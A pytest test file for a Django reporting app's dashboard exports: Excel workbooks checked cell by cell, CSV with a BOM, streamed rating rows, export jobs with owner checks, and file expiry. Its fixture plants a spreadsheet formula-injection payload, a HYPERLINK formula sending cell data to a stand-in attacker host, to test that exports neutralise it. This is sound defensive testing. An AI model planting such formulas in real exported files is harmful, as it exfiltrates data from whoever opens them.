"""Exports of the dashboards: the Excel workbook re-opened cell by cell, CSV with its BOM, formula
neutralisation, rating rows streamed when small, and the export job (with its owner check) when big;
the same for a team's page."""

import csv
import datetime
import io
import random

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.jobs import JobStatus
from core.spreadsheet import FORMULA_STARTS
from feedback.models import Rating
from reports.exports.models import ExportJob
from reports.exports.services import RatingExport, ratings_for, rows_to_export, run_export_job
from reports.exports.tables import BOM, Column, Table, figures_workbook, stream_csv, table_csv, write_rows_xlsx
from reports.measures import Period, rank_units, unit_measures
from reports.models import UnitKind
from reports.rollups import fold_rollups
from tests.reports.support import add_declarations, add_ratings

PERIOD = "2025-01..2025-06"
DEPARTMENT = reverse("reports:dashboard-department")
RATINGS = reverse("reports:dashboard-ratings")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


@pytest.fixture
def rated(cast):
    rng = random.Random(11)
    declarations = add_declarations(cast, 150, rng, businesses=[cast.business_x, cast.business_y])
    ratings = add_ratings(cast, declarations, rng, share=0.9)
    fold_rollups(lag_seconds=0)
    ratings = sorted(ratings, key=lambda r: r.declaration.cleared_at)
    Rating.objects.filter(pk=ratings[0].pk).update(comment=HYPERLINK)
    Rating.objects.filter(pk=ratings[1].pk).update(comment="Hải quan Móng Cái hỗ trợ rất tốt")
    return ratings


def staff_get(client, cast, url, **params):
    client.force_login(cast.users.staff)
    return client.get(url, params)


def test_department_workbook_cell_by_cell(client, cast, rated):
    response = staff_get(client, cast, DEPARTMENT, period=PERIOD, export="xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Totals",
        "Monthly trend",
        "Branches",
        "Teams",
        "Officers",
        "Level distribution",
        "Case deadlines met",
    ]
    staff, period = cast.users.staff, Period.parse(PERIOD)
    department = unit_measures(staff, UnitKind.DEPARTMENT, cast.department.pk, period)

    totals = book["Totals"]
    assert totals["A1"].value == "Totals"
    assert totals["A1"].font.bold
    headers = [cell.value for cell in totals[4]]
    assert headers[:5] == [
        "Department",
        "Period",
        "Ratings",
        "Satisfaction rate",
        "Channel-adjusted satisfaction",
    ]
    assert totals["A4"].font.bold and totals["A4"].fill.fgColor.rgb.endswith("0B4F8A")
    assert totals["A5"].value == cast.department.name
    assert totals["B5"].value == "01/2025 – 06/2025"
    assert totals["C5"].value == department.ratings
    assert totals["C5"].number_format == "#,##0"
    assert totals["D5"].value == pytest.approx(department.satisfaction_rate)
    assert totals["D5"].number_format == "0.0%"
    assert totals["G5"].number_format == "#,##0.00"  # mean level
    assert totals.freeze_panes == "B5"
    assert totals.column_dimensions["A"].width > 20

    branches = book["Branches"]
    ranked = rank_units(staff, UnitKind.BRANCH, period, within=(UnitKind.DEPARTMENT, cast.department.pk))
    for row, figures in enumerate(ranked, start=5):
        assert branches.cell(row=row, column=1).value == figures.rank
        assert branches.cell(row=row, column=2).value == figures.unit_name
        assert branches.cell(row=row, column=3).value == figures.ratings
        assert branches.cell(row=row, column=5).value == pytest.approx(figures.channel_adjusted.adjusted)
    assert branches.freeze_panes == "C5"
    assert len(branches._charts) == 1  # the native bar chart of the branches
    chart = branches._charts[0]
    assert chart.type == "bar"

    trend = book["Monthly trend"]
    assert [trend.cell(row=r, column=1).value for r in range(5, 11)] == [f"{m:02d}/2025" for m in range(1, 7)]
    assert sum(trend.cell(row=r, column=2).value for r in range(5, 11)) == department.ratings


def test_table_csv_has_a_bom_and_round_trips_vietnamese(client, cast, rated):
    response = staff_get(client, cast, DEPARTMENT, period=PERIOD, export="branches")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = response.content
    assert raw.startswith(BOM.encode("utf-8"))  # b"\xef\xbb\xbf": Excel then reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Rank", "Branch", "Ratings"]
    assert rows[0][3] == "Satisfaction rate (%)"
    assert {row[1] for row in rows[1:]} == {"Chi cục Hải quan Móng Cái", "Chi cục Hải quan Hòn Gai"}


def test_unknown_table_is_404(client, cast, rated):
    assert staff_get(client, cast, DEPARTMENT, period=PERIOD, export="nope").status_code == 404


def test_rating_rows_csv_streams_and_neutralises_formulas(client, cast, rated):
    response = staff_get(client, cast, RATINGS, level="department", code="QN", period=PERIOD, format="csv")
    assert response.status_code == 200
    assert response.streaming
    raw = b"".join(response.streaming_content)
    assert raw.startswith(BOM.encode("utf-8"))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "Declaration number"
    assert len(rows) - 1 == len(rated)
    comments = [row[-1] for row in rows[1:]]
    assert "'" + HYPERLINK in comments  # inert: starts with an apostrophe
    assert HYPERLINK not in comments
    assert "Hải quan Móng Cái hỗ trợ rất tốt" in comments
    assert not any(cast.business_x.name in row or cast.business_x.tax_code in row for row in rows)


def test_rating_rows_xlsx_keeps_a_formula_inert(client, cast, rated):
    response = staff_get(client, cast, RATINGS, level="department", code="QN", period=PERIOD, format="xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    assert sheet.freeze_panes == "B2"
    assert sheet["A1"].value == "Declaration number" and sheet["A1"].font.bold
    cells = [row[9] for row in sheet.iter_rows(min_row=2)]
    inert = next(cell for cell in cells if cell.value == HYPERLINK)
    assert inert.data_type == "s"  # a string, not a formula ("f")
    assert inert.quotePrefix
    assert sheet["B2"].number_format == "dd/mm/yyyy hh:mm"
    assert sheet.max_row - 1 == len(rated)


def test_rating_rows_are_scoped(client, cast, rated):
    client.force_login(cast.users.other_leader)
    assert client.get(RATINGS, {"level": "branch", "code": "MC", "period": PERIOD}).status_code == 404
    assert client.get(RATINGS, {"level": "department", "code": "QN", "period": PERIOD}).status_code == 404
    client.force_login(cast.users.business)
    assert client.get(RATINGS, {"level": "officer", "code": "OA1", "period": PERIOD}).status_code == 404
    client.force_login(cast.users.officer)
    response = client.get(RATINGS, {"level": "officer", "code": "OA1", "period": PERIOD, "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0][8] == "Officer's level"
    assert all(row[8] in {"1", "2", "3", "4", "5"} for row in rows[1:])


def test_big_export_runs_as_a_job_downloadable_only_by_its_owner(
    client, cast, rated, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_MAX_ROWS = settings.EXPORT_SYNC_MAX_XLSX_ROWS = 10
    settings.MEDIA_ROOT = tmp_path
    client.force_login(cast.users.staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(RATINGS, {"level": "department", "code": "QN", "period": PERIOD, "format": "xlsx"})
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("reports:export-job", args=[job.pk])
    assert job.status == JobStatus.DONE and job.progress == 100 and job.row_count == len(rated)
    assert job.user == cast.users.staff and job.file.name.startswith("exports/")
    assert (tmp_path / job.file.name).exists()

    page = client.get(response["Location"])
    assert page.status_code == 200 and b"Download the file" in page.content
    status = client.get(reverse("reports:export-job-status", args=[job.pk])).json()
    assert status["done"] and status["progress"] == 100 and status["download_url"]
    download = client.get(status["download_url"])
    assert download.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(download.streaming_content)), read_only=True)
    assert sum(1 for _row in book.active.iter_rows()) == len(rated) + 1

    for other in (cast.users.admin, cast.users.leader):
        client.force_login(other)
        assert client.get(status["download_url"]).status_code == 404
        assert client.get(reverse("reports:export-job-status", args=[job.pk])).status_code == 404
        assert client.get(reverse("reports:export-job", args=[job.pk])).status_code == 404


def test_export_job_runs_once(cast, rated, settings, tmp_path):

    settings.MEDIA_ROOT = tmp_path
    export = RatingExport(UnitKind.BRANCH, cast.branch_a.pk, Period.parse(PERIOD), None, "csv")
    job = ExportJob.objects.create(user=cast.users.leader, kind="ratings", params=export.as_params())
    run_export_job(job.pk)
    job.refresh_from_db()
    finished, name = job.finished_at, job.file.name
    assert job.status == JobStatus.DONE
    assert (tmp_path / name).read_bytes().startswith(BOM.encode("utf-8"))
    run_export_job(job.pk)  # a second delivery of the task changes nothing
    job.refresh_from_db()
    assert (job.finished_at, job.file.name) == (finished, name)


def test_export_job_out_of_scope_fails_without_a_file(cast, rated, settings, tmp_path):

    settings.MEDIA_ROOT = tmp_path
    export = RatingExport(UnitKind.BRANCH, cast.branch_a.pk, Period.parse(PERIOD), None, "xlsx")
    job = ExportJob.objects.create(user=cast.users.other_leader, kind="ratings", params=export.as_params())
    run_export_job(job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and not job.file


# --- the team dashboard's downloads ------------------------------------------------------------------------

TEAM = reverse("reports:dashboard-team", args=["MC", "MC-TT"])


def _team_ratings(cast):
    """Team A1's ratings cleared in the period (local months), as the figures count them."""
    tz = timezone.get_default_timezone()
    return Rating.objects.filter(
        team=cast.team_a1,
        declaration__cleared_at__gte=datetime.datetime(2025, 1, 1, tzinfo=tz),
        declaration__cleared_at__lt=datetime.datetime(2025, 7, 1, tzinfo=tz),
    )


def test_team_workbook_cell_by_cell(client, cast, rated):
    commented = _team_ratings(cast).order_by("-declaration__cleared_at").first()
    Rating.objects.filter(pk=commented.pk).update(comment="Đội làm việc chuyên nghiệp.", team_level=3)
    client.force_login(cast.users.team_leader)
    response = client.get(TEAM, {"period": PERIOD, "export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="dashboard-MC-MC-TT-2025-01..2025-06.xlsx"'
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Totals", "Monthly trend", "Officers", "Level distribution", "Recent comments"]
    user, period = cast.users.team_leader, Period.parse(PERIOD)
    team = unit_measures(user, UnitKind.TEAM, cast.team_a1.pk, period)

    totals = book["Totals"]
    assert totals["A2"].value.startswith(f"{cast.team_a1.name} · {cast.branch_a.name} · 01/2025 – 06/2025")
    assert totals["A4"].value == "Team"
    assert totals["A5"].value == cast.team_a1.name
    assert totals["C5"].value == team.ratings
    assert totals["D5"].value == pytest.approx(team.satisfaction_rate)
    assert totals["E5"].value == pytest.approx(team.channel_adjusted.adjusted)

    officers = book["Officers"]
    ranked = rank_units(user, UnitKind.OFFICER, period, within=(UnitKind.TEAM, cast.team_a1.pk))
    assert [officers.cell(row=5, column=c).value for c in (1, 2, 3)] == [1, ranked[0].unit_name, ranked[0].ratings]
    assert officers["E5"].value == pytest.approx(ranked[0].channel_adjusted.adjusted)
    assert officers["A6"].value is None  # the team's only member
    assert len(officers._charts) == 1

    levels = book["Level distribution"]
    assert [levels.cell(row=r, column=2).value for r in range(5, 10)] == [team.level_counts[k] for k in (5, 4, 3, 2, 1)]

    trend = book["Monthly trend"]
    assert sum(trend.cell(row=r, column=2).value for r in range(5, 11)) == team.ratings

    comments = book["Recent comments"]
    assert comments["B5"].value == commented.declaration.number
    assert comments["C5"].value == 3  # the team's level
    assert comments["D5"].value == "Đội làm việc chuyên nghiệp."


def test_team_officers_csv(client, cast, rated):
    client.force_login(cast.users.leader)
    response = client.get(TEAM, {"period": PERIOD, "export": "officers"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="dashboard-MC-MC-TT-2025-01..2025-06-officers.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Rank", "Officer", "Ratings"]
    figures = rank_units(
        cast.users.leader, UnitKind.OFFICER, Period.parse(PERIOD), within=(UnitKind.TEAM, cast.team_a1.pk)
    )
    assert rows[1][:3] == ["1", cast.officers.oa1.full_name, str(figures[0].ratings)]
    assert len(rows) == 2


def test_team_rating_rows(client, cast, rated):
    expected = _team_ratings(cast)
    client.force_login(cast.users.team_leader)
    response = client.get(
        RATINGS, {"level": "team", "code": "MC-TT", "branch": "MC", "period": PERIOD, "format": "csv"}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0][5:8] == ["Team", "Branch level", "Team level"]
    assert len(rows) - 1 == expected.count() > 0
    assert {row[5] for row in rows[1:]} == {cast.team_a1.name}
    levels = dict(expected.values_list("declaration__number", "team_level"))
    assert {row[0]: int(row[7]) if row[7] else None for row in rows[1:]} == levels

    response = client.get(
        RATINGS, {"level": "team", "code": "MC-TT", "branch": "MC", "period": PERIOD, "format": "xlsx"}
    )
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.active.max_row - 1 == expected.count()


@pytest.mark.parametrize(("who", "code"), [("team_leader", "MC-KS"), ("officer", "MC-TT"), ("other_leader", "MC-TT")])
def test_team_rating_rows_are_scoped(client, cast, rated, who, code):
    client.force_login(getattr(cast.users, who))
    assert client.get(RATINGS, {"level": "team", "code": code, "branch": "MC", "period": PERIOD}).status_code == 404


def test_team_export_job(cast, rated, settings, tmp_path):

    settings.MEDIA_ROOT = tmp_path
    export = RatingExport(UnitKind.TEAM, cast.team_a1.pk, Period.parse(PERIOD), None, "csv")
    job = ExportJob.objects.create(user=cast.users.team_leader, kind="ratings", params=export.as_params())
    run_export_job(job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.DONE and job.row_count == _team_ratings(cast).count()


@pytest.mark.parametrize("prefix", FORMULA_STARTS)
def test_every_formula_prefix_is_neutralised_in_csv_and_xlsx_exports(prefix):
    text = prefix + 'HYPERLINK("http://evil.example/","Xem")'
    columns = [Column(prefix + "Unit"), Column("Ratings", "int")]
    table = Table(name="units", title="Units", columns=columns, rows=[[text, 3]])

    for written in (table_csv(table), "".join(stream_csv(columns, table.rows))):
        rows = list(csv.reader(io.StringIO(written.removeprefix(BOM), newline="")))
        assert rows[0][0] == "'" + prefix + "Unit"
        assert rows[1] == ["'" + text, "3"]

    figures = load_workbook(io.BytesIO(figures_workbook([table], subtitle=text))).active
    buffer = io.BytesIO()
    write_rows_xlsx(buffer, "Ratings", columns, table.rows)
    rows = load_workbook(io.BytesIO(buffer.getvalue())).active
    for cell in (figures["A2"], figures["A4"], figures["A5"], rows["A1"], rows["A2"]):
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


# --- speed and upkeep: rows without model instances, sheets under Excel's limit, files that expire -------


def test_rating_rows_read_officers_once_per_chunk(cast, rated, monkeypatch):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reports.exports import services

    monkeypatch.setattr(services, "CHUNK", 50)
    export = RatingExport(UnitKind.DEPARTMENT, cast.department.pk, Period.parse(PERIOD), None, "csv")
    ratings = services.ratings_for(cast.users.staff, export)
    total = ratings.count()
    assert total > 100
    chunks = -(-total // 50)
    # The rows through one server-side cursor (declare, fetches, close), then one officer query per chunk.
    with CaptureQueriesContext(connection) as captured:
        rows = list(services.rating_rows(ratings))
    officer_queries = [q for q in captured.captured_queries if "feedback_ratingofficer" in q["sql"]]
    assert len(officer_queries) == chunks
    assert len(rows) == total == len(rated)
    first = rows[0]
    assert first[0] == rated[0].declaration.number and first[6] == rated[0].branch_level
    officers = "; ".join(
        f"{row.officer.full_name} ({row.officer.code}): {row.level}" for row in rated[0].officer_ratings.order_by("id")
    )
    assert first[8] == officers


def test_rating_rows_xlsx_go_on_to_a_next_sheet_at_the_row_limit():
    columns = [Column("Number"), Column("Level", "int")]
    buffer = io.BytesIO()
    count = write_rows_xlsx(buffer, "Ratings", columns, ([f"{n:03d}", n] for n in range(7)), rows_per_sheet=3)
    book = load_workbook(io.BytesIO(buffer.getvalue()))
    assert count == 7
    assert book.sheetnames == ["Ratings", "Ratings (2)", "Ratings (3)"]
    assert [[cell.value for cell in row] for row in book["Ratings (3)"].iter_rows()] == [
        ["Number", "Level"],
        ["006", 6],
    ]
    assert sum(sheet.max_row - 1 for sheet in book.worksheets) == 7


def test_no_rows_still_make_a_sheet_with_its_header():
    buffer = io.BytesIO()
    assert write_rows_xlsx(buffer, "Ratings", [Column("Number")], []) == 0
    assert load_workbook(io.BytesIO(buffer.getvalue())).active["A1"].value == "Number"


def test_export_files_expire_after_export_file_days(cast, rated, settings, tmp_path):
    from reports.exports.tasks import delete_expired_exports_task

    settings.MEDIA_ROOT = tmp_path
    settings.EXPORT_FILE_DAYS = 7
    export = RatingExport(UnitKind.BRANCH, cast.branch_a.pk, Period.parse(PERIOD), None, "csv")
    jobs = []
    for _ in range(2):
        job = ExportJob.objects.create(user=cast.users.leader, kind="ratings", params=export.as_params())
        run_export_job(job.pk)
        job.refresh_from_db()
        jobs.append(job)
    old, recent = jobs
    old_name = old.file.name
    ExportJob.objects.filter(pk=old.pk).update(finished_at=timezone.now() - datetime.timedelta(days=8))
    assert (tmp_path / old.file.name).exists()

    assert delete_expired_exports_task.name == "reports.tasks.delete_expired_exports_task"
    assert delete_expired_exports_task() == 1

    old.refresh_from_db()
    recent.refresh_from_db()
    assert not old.file and not (tmp_path / old_name).exists()
    assert recent.file and (tmp_path / recent.file.name).exists()
    assert old.status == JobStatus.DONE  # the job stays; its download answers 404
    assert delete_expired_exports_task() == 0
    assert settings.CELERY_BEAT_SCHEDULE["delete-expired-exports"]["task"] == delete_expired_exports_task.name


def test_every_row_keeps_its_formats_and_formula_text_stays_inert():
    columns = [Column("Text"), Column("When", "datetime"), Column("Level", "int")]
    when = timezone.now()
    rows = [["a", when, 3], ["=1+1", None, 4], ["b", when, None]]
    buffer = io.BytesIO()
    write_rows_xlsx(buffer, "Ratings", columns, rows)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [sheet[f"B{row}"].number_format for row in (2, 4)] == ["dd/mm/yyyy hh:mm"] * 2
    assert [sheet[f"C{row}"].value for row in (2, 3, 4)] == [3, 4, None]
    assert sheet["C3"].number_format == "#,##0" and sheet["B3"].value is None
    assert sheet["A3"].value == "=1+1" and sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix
    assert not sheet["A4"].quotePrefix


def test_export_job_page_says_when_the_file_is_deleted_then_that_it_was(client, cast, rated, settings, tmp_path):
    from django.utils import formats

    from reports.exports.services import delete_expired_exports

    settings.MEDIA_ROOT = tmp_path
    settings.EXPORT_FILE_DAYS = 3
    export = RatingExport(UnitKind.BRANCH, cast.branch_a.pk, Period.parse(PERIOD), None, "csv")
    job = ExportJob.objects.create(user=cast.users.leader, kind="ratings", params=export.as_params())
    run_export_job(job.pk)
    job.refresh_from_db()
    deleted_at = job.finished_at + datetime.timedelta(days=3)
    shown = formats.date_format(timezone.localtime(deleted_at), "SHORT_DATETIME_FORMAT")
    page_url = reverse("reports:export-job", args=[job.pk])
    download_url = reverse("reports:export-job-download", args=[job.pk])
    client.force_login(cast.users.leader)

    page = client.get(page_url).content.decode()
    assert shown in page and download_url in page and "stays valid" not in page
    status = client.get(reverse("reports:export-job-status", args=[job.pk])).json()
    assert status["expires_at"] == shown and status["download_url"] == download_url

    assert delete_expired_exports(now=deleted_at - datetime.timedelta(minutes=1)) == 0
    assert delete_expired_exports(now=deleted_at + datetime.timedelta(minutes=1)) == 1
    page = client.get(page_url).content.decode()
    assert f"The file was deleted on {shown}" in page and download_url not in page
    status = client.get(reverse("reports:export-job-status", args=[job.pk])).json()
    assert status["done"] and status["download_url"] == "" and status["expires_at"] == ""
    assert client.get(download_url).status_code == 404


@pytest.mark.parametrize("level", ["department", "officer"])
@pytest.mark.parametrize("language", ["vi", "en"])
def test_csv_by_copy_reads_back_as_the_portable_csv(cast, rated, level, language):
    from django.db import connection
    from django.utils import translation

    from reports.exports import services

    if connection.vendor != "postgresql":
        pytest.skip("COPY is PostgreSQL's")  # the portable path is the one every other CSV test reads
    Rating.objects.filter(pk=rated[2].pk).update(comment='-2 ngày\ntrễ, "chậm"')
    kind, unit = (
        (UnitKind.DEPARTMENT, cast.department.pk) if level == "department" else (UnitKind.OFFICER, cast.officers.oa1.pk)
    )
    with translation.override(language):
        export = RatingExport(kind, unit, Period.parse(PERIOD), None, "csv")
        ratings = services.ratings_for(cast.users.staff, export)
        portable = "".join(
            stream_csv(
                services.columns_for(export), services.rating_rows(ratings, officer_id=services.officer_of(export))
            )
        )
        buffer = io.BytesIO()
        count = services.copy_csv(buffer, export, ratings)
    copied = buffer.getvalue().decode("utf-8")
    assert copied.startswith(BOM) and portable.startswith(BOM)
    copied_rows = list(csv.reader(io.StringIO(copied[1:])))
    portable_rows = list(csv.reader(io.StringIO(portable[1:])))
    assert count == len(copied_rows) - 1 == ratings.count() > 10
    assert copied_rows == portable_rows
    if level == "department":  # every rating: the two comments that start like formulas are there
        comments = {row[9] for row in copied_rows}
        assert {'\'-2 ngày\ntrễ, "chậm"', "'" + HYPERLINK} <= comments


@pytest.mark.parametrize(
    ("kind", "unit", "channel"),
    [
        (UnitKind.DEPARTMENT, "department", None),
        (UnitKind.BRANCH, "branch_a", "green"),
        (UnitKind.TEAM, "team_a1", None),
        (UnitKind.OFFICER, "oa2", None),
    ],
)
def test_rows_to_export_count_folded_and_unfolded_ratings_alike(cast, rated, kind, unit, channel):
    # given ratings folded into the rollups (the fixture) and more that the fold has not reached
    rng = random.Random(12)
    add_ratings(cast, add_declarations(cast, 40, rng, businesses=[cast.business_x]), rng)
    unit_id = (getattr(cast.officers, unit) if kind == UnitKind.OFFICER else getattr(cast, unit)).pk
    export = RatingExport(kind, unit_id, Period.parse(PERIOD), channel, "csv")
    ratings = ratings_for(cast.users.staff, export)

    # then the estimate that picks a download or a job is the number of rows the export writes
    assert 0 < rows_to_export(ratings, export) == ratings.count()
    fold_rollups(lag_seconds=0)
    assert rows_to_export(ratings, export) == ratings.count()
